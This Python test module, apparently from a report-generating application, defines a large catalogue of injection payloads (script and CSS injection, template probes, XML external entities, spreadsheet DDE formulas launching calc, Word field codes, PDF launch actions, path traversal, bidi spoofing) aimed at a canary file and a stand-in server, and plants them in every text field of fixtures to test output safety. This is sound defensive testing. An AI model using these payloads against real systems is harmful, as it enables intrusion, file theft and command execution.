"""What somebody might type to make a report open a file, call a server, run something, or tell what it should not.

``payloads(canary)`` are texts that point to a file with a secret; ``instrument_with`` and ``dossier_with`` put texts
wherever a text may stand: in answers and registers, and in the wording of the instrument, which others write.
"""

import dataclasses
import itertools
import re
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from capacity_app.domain.assessment.answers import Answer
from capacity_app.domain.assessment.dossier import Dossier
from capacity_app.domain.questionnaire.instrument import Instrument
from tests.domain.making import say
from tests.outputs.example import report_dossier

SECRET = "CANARY-4f2a91c7d5"  # noqa: S105 - a secret only in name
"""What stands in the file that nobody may open."""
SERVER = "canary.invalid"
"""A server that nobody may call; the name can never be found."""


def payloads(canary: Path) -> dict[str, str]:
    """Return every payload by what it tries; ``canary`` is the file with the secret."""
    uri, path, server = canary.as_uri(), str(canary), f"http://{SERVER}/x"
    return {
        "image of a file": f'<img src="{uri}">',
        "image of a server": f'"><img src={server} srcset="{server} 2x">',
        "attachment": f'<link rel="attachment" href="{uri}"><a rel="attachment" href="{uri}">x</a>',
        "style sheet": f'<link rel="stylesheet" href="{uri}"><style>@import "{server}";</style>',
        "import": f"</style><style>@import url({uri}); * {{ background: url({server}) }}</style>",
        "style attribute": f"x\" style=\"background: url('{uri}')\" onmouseover=\"alert(1)",
        "style sheet by a name": f'"; }} @import url("{uri}"); * {{ content: url("{server}") }} /*',
        "css escapes": f"\\22 \\3b \\7d  @font-face {{ font-family: x; src: url({uri}) }} */ \\",
        "list image": f"<ul style='list-style-image: url({uri})'><li>x</ul>",
        "script": f'<script src="{server}"></script><script>fetch("{uri}")</script><img src=x onerror=alert(1)>',
        "frame": f'<iframe src="{uri}"></iframe><frame src="{uri}"><embed src="{uri}">',
        "object": f'<object data="{uri}" type="text/plain"></object><video poster="{uri}"></video>',
        "svg": f'<svg><image href="{uri}"/><use xlink:href="{uri}#x"/><script>alert(1)</script></svg>',
        "svg text": f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img src="{uri}"/></foreignObject></svg>',
        "base": f'<base href="{uri}"><meta http-equiv="refresh" content="0; url={server}"><form action="{server}">',
        "template": "{{ config }} {{ view.__class__.__mro__ }} {{ ''.__class__ }} {{ 7 * 191 }}",
        "template file": f"{{% include '{path}' %}} {{% import '{path}' as x %}} {{{{ self._TemplateReference__x }}}}",
        "format string": "{0.__class__} {place.__init__} %(x)s %s {texts} {words.dossier}",
        "entity": f'<!DOCTYPE x [<!ENTITY e SYSTEM "{uri}"><!ENTITY % p SYSTEM "{server}"> %p;]>&e;',
        "xinclude": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>',
        "cdata": f"]]><img src='{uri}'><![CDATA[ <?xml-stylesheet href='{uri}'?>",
        "web service": f'=WEBSERVICE("{server}")&IMPORTXML("{server}";"//a")',
        "hyperlink formula": f'=HYPERLINK("{uri}","click")',
        "dde": "=cmd|'/C calc'!A0",
        "dde long": """=DDE("cmd";"/C calc";"1")+SUM(1)*cmd|' /C calc'!A0""",
        "external cell": f"='file://{path}'#$Sheet1.A1",
        "array formula": f'{{=WEBSERVICE("{server}")}}',
        "plus and at": "+1+cmd|' /C calc'!A0\n@SUM(1+9)*cmd|' /C calc'!A0\t-2+3+cmd|' /C calc'!A0",
        "include text": f'{{ INCLUDETEXT "{path}" }} {{ INCLUDEPICTURE "{server}" \\d }}',
        "field marks": f'</w:t></w:r><w:fldSimple w:instr=" INCLUDETEXT &quot;{path}&quot; "/><w:r><w:t>',
        "word dde": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
        "javascript link": "javascript:alert(document.domain)",
        "javascript link in disguise": "java\tscript:alert(1) JaVaScRiPt:alert(1) https:javascript:alert(1)",
        "file link": uri,
        "network share": f"\\\\{SERVER}\\share\\x.docx",
        "network share as link": f"file://{SERVER}/share/x",
        "data link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "link to a program": "ms-word:ofe|u|http://x vbscript:msgbox(1) internal:Sheet1!A1 external:x.xlsx",
        "pdf launch": "(/Launch) >> endobj << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) >> >> \\) ) Tj ET",
        "pdf script": ") /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> endstream endobj",
        "bidi spoof": "invoice\u202egpj.exe \u2066evil\u2069 \u2067 //\u202e",
        "nothing to see": "null\x00byte \x1b[31mred \x08\x7f \ufffe \x85",
        "path as a name": f"../../../../../../..{path}",
        "path with a null": f"{path}\x00.png",
        "windows device": "CON:\\\\.\\pipe\\x NUL C:\\Windows\\win.ini",
        "anchors": '" id="summary" href="#x" <a name=x>#../x%00',
        "mail": f'a@{SERVER}?subject=x&body="><script>',
    }  # fmt: skip


LINKS = ("javascript link", "file link", "network share", "network share as link", "data link", "link to a program")
"""Payloads that are no markup but addresses of their own; as links they must lead nowhere."""


def is_safe(address: str) -> bool:
    """Return whether a link may lead there."""
    return re.match(r"https?://|mailto:", address, re.IGNORECASE) is not None


Say = Callable[[], str]
"""Gives the next text to be typed."""

_REFERENCES = frozenset({"id", "agency", "responsible", "document", "start", "end"})
_INSIDE = frozenset({"questions", "columns", "rows", "options", "anchors", "actions"})


def in_turn(texts: Iterable[str]) -> Say:
    """Return texts one after the other, again and again."""
    endless = itertools.cycle(texts)
    return lambda: next(endless)


def _typed(entry: Any, say_it: Say, kept: frozenset[str]) -> Any:
    """Put texts into every free text of an entry."""
    free = [field.name for field in dataclasses.fields(entry) if field.type is str and field.name not in kept]
    return dataclasses.replace(entry, **{name: say_it() for name in free})


def _worded(part: Any, say_it: Say) -> Any:
    """Word one part of the instrument and all that is in it; ids and kinds stay."""
    if isinstance(part, tuple):
        return tuple(_worded(one, say_it) for one in part)
    if isinstance(part, str):
        return say_it()
    inside = {
        field.name: _worded(getattr(part, field.name), say_it)
        for field in dataclasses.fields(part)
        if field.name in _INSIDE
    }
    return dataclasses.replace(_typed(part, say_it, frozenset({"id", "supplement", "group"})), **inside)


def instrument_with(say_it: Say) -> Instrument:
    """Make an instrument that says whatever one likes, in every wording it has."""
    made = report_dossier().instrument
    return dataclasses.replace(
        made,
        title=say_it(),
        edition=say_it(),
        description=say_it(),
        version=say_it(),
        sections=_worded(made.sections, say_it),
        concepts=_worded(made.concepts, say_it),
        codes={name: _worded(codes, say_it) for name, codes in made.codes.items()},
    )


def _answered(answer: Answer, say_it: Say) -> Answer:
    content, is_typed = answer.content, answer.key.address.question in {"a.law", "a.name", "a.site"}
    said = dataclasses.replace(
        content,
        note=say_it(),
        reason=say_it(),
        value=say_it() if is_typed else content.value,
        evidence=(*content.evidence, say_it()),
    )
    return dataclasses.replace(answer, author=say_it(), language=say_it(), time=say_it(), content=said)


def dossier_with(say_it: Say, **more: Any) -> Dossier:
    """Make a dossier with such texts wherever something can be typed, and as ids, codes, times and languages."""
    made = report_dossier()
    registers: dict[str, Any] = {}
    for name in ("agencies", "people", "meetings", "sources", "evidence", "actions"):
        entries = tuple(_typed(entry, say_it, _REFERENCES) for entry in getattr(made, name))
        # Ids come from other programs too: one more entry of each register is called so.
        registers[name] = (*entries, dataclasses.replace(entries[0], id=say_it()))
    mission = _typed(made.mission, say_it, frozenset({"id", "start", "end", "validated_on"}))
    retired = (say("a.law", say_it(), who=say_it(), note=say_it()), say("z.gone", say_it(), who=say_it()))
    return dataclasses.replace(
        made,
        mission=dataclasses.replace(mission, team=(say_it(), say_it())),
        answers=(*(_answered(answer, say_it) for answer in made.answers), *retired),
        **registers,
        **more,
    )
